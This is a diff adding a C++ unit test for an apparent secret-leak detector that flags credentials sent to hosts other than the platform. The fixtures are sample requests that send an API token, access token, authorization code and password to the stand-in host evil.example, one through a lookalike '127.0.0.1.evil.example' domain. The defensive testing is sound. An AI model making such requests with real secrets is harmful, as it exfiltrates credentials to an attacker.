@@ -131,6 +131,26 @@ TEST_F(HuntTest, BearersAreForThePlatformOnly) {
                           "header Authorization of GET http://example.org/x"));
 }
 
+TEST_F(HuntTest, WhatThePlatformMayHaveNoOtherHostMay) {
+  const SecretHunter hunter{{{"API token ci", "cN8vR4tYq2WmZx7Lp5Ks", SecretKind::kApiToken},
+                             {"access token 1", kToken, SecretKind::kAccessToken},
+                             {"authorization code 1", "Hq5zK8wLr3XvTn7Jm2Bd", SecretKind::kAuthorizationCode},
+                             {"PASSWORD", "Gt6yBn9PkVw3ZsLx4QmD", SecretKind::kOther}}};
+  const StepTraces to_another{
+      .foreign = {
+          {"POST", "http://evil.example/oauth2/token", "", "grant_type=api_token&api_token=cN8vR4tYq2WmZx7Lp5Ks"},
+          {"POST", "http://evil.example/oauth2/revoke", "", "token=" + kToken},
+          {"GET", "http://127.0.0.1.evil.example/?code=Hq5zK8wLr3XvTn7Jm2Bd", "", ""},
+          {"POST", "http://evil.example/projects/p/variables", "", "value=Gt6yBn9PkVw3ZsLx4QmD"}}};
+  std::vector<std::string> let_pass;
+  const std::vector<Exposure> exposures = hunt_.look(to_another, hunter);
+  for (const Exposure& exposure : exposures) {
+    if (!exposure.may_be.empty()) let_pass.push_back(exposure.what());
+  }
+  EXPECT_THAT(exposures, SizeIs(4));
+  EXPECT_THAT(let_pass, IsEmpty());
+}
+
 TEST_F(HuntTest, TakesPrivateKeysOnce) {
   write("work/key", "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n");
   ASSERT_THAT(hunt_.take_private_keys(), SizeIs(1));
